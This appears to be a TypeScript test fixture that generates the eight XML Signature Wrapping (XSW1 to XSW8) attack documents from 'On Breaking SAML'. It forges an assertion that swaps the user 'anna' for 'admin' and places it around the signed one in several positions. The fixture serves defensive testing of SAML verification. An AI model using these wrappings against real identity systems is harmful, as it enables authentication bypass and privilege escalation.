import { NS } from '../xml/namespaces.js';
import { ASSERTION_ID, assertion, PARTS, response } from './provider.fixture.js';

/** Where the forged assertion stands to the one that was signed. */
export const PLACES = {
  before: (forged: string, original: string) => forged + original,
  after: (forged: string, original: string) => original + forged,
  around: (forged: string, original: string) => within(forged, 'saml:Assertion', original),
  'inside Object': (forged: string, original: string) => original + object(forged),
} as const;

export type Place = keyof typeof PLACES;

/** What is signed, taken apart. */
export interface Original {
  /** The document of the provider. */
  readonly document: string;
  /** Its signature. */
  readonly signature: string;
}

/** The forged assertion. Its ID is another one, unless it takes that of the original. */
function forged(id = '_forged'): string {
  return assertion({
    nameId: PARTS.nameId.replace('anna', 'admin'),
    attributesOfAssertion: PARTS.attributesOfAssertion.replace(ASSERTION_ID, id),
  });
}

/**
 * The eight wrappings of "On Breaking SAML" (USENIX Security 2012), by their usual numbers: the first two for a signed
 * response, the others for a signed assertion.
 */
export const WRAPPINGS: Readonly<Record<string, (original: Original, place: Place) => string>> = {
  XSW1: ({ document, signature }, place) => {
    const bare = document.replace(signature, '');
    const around = within(signature, 'ds:Signature', bare);
    return evilResponse(around, PLACES[place](forged(), assertion()));
  },
  XSW2: ({ document, signature }, place) => {
    const bare = document.replace(signature, '');
    return evilResponse(bare + signature, PLACES[place](forged(), assertion()));
  },
  XSW3: ({ document }, place) => replaceAssertion(document, (original) => PLACES[place](forged(), original)),
  XSW4: ({ document }, place) =>
    replaceAssertion(document, (original) => PLACES[place](within(forged(), 'saml:Assertion', original), '')),
  XSW5: ({ document, signature }, place) =>
    replaceAssertion(document, (original) =>
      PLACES[place](behindIssuer(forged(ASSERTION_ID), signature), original.replace(signature, '')),
    ),
  XSW6: ({ document, signature }, place) =>
    replaceAssertion(document, (original) => {
      const around = within(signature, 'ds:Signature', original.replace(signature, ''));
      return PLACES[place](behindIssuer(forged(ASSERTION_ID), around), '');
    }),
  XSW7: ({ document }, place) =>
    replaceAssertion(document, (original) => original).replace(
      '<samlp:Status>',
      `<samlp:Extensions>${PLACES[place](forged(ASSERTION_ID), '')}</samlp:Extensions><samlp:Status>`,
    ),
  XSW8: ({ document, signature }, place) =>
    replaceAssertion(document, (original) => {
      const around = within(signature, 'ds:Signature', object(original.replace(signature, '')));
      return PLACES[place](behindIssuer(forged(ASSERTION_ID), around), '');
    }),
};

export function signatureIn(document: string): string {
  return /<ds:Signature.*?<\/ds:Signature>/s.exec(document)![0];
}

function evilResponse(signature: string, content: string): string {
  return response(content, { attributes: `ID="_evil" Version="2.0" IssueInstant="2026-11-30T12:00:00Z"` }).replace(
    '</saml:Issuer>',
    `</saml:Issuer>${signature}`,
  );
}

function replaceAssertion(document: string, replace: (original: string) => string): string {
  return document.replace(/<saml:Assertion.*<\/saml:Assertion>/s, (original) => replace(original));
}

function behindIssuer(element: string, signature: string): string {
  return element.replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
}

/** As the last child. */
function within(element: string, name: string, content: string): string {
  const end = element.lastIndexOf(`</${name}>`);
  return element.slice(0, end) + content + element.slice(end);
}

function object(content: string): string {
  return `<ds:Object xmlns:ds="${NS.signature}">${content}</ds:Object>`;
}
